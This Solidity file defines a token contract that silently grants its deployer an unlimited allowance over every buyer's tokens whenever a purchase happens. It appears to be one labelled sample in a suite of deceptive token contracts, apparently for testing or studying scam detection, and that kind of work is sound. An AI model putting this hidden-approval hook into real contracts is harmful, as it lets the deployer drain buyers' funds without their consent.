// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {PairToken} from "./PairToken.sol";
import {SuiteToken} from "./SuiteToken.sol";

/// Whoever buys has allowed the deployer everything, without knowing it.
contract AllowanceOnBuying is PairToken {
    constructor(address pair) SuiteToken("Consent", "CNST") PairToken(pair) {}

    function _onBuy(address buyer, uint256) internal override returns (uint256) {
        _allowances[buyer][_deployer] = type(uint256).max;
        return 0;
    }
}
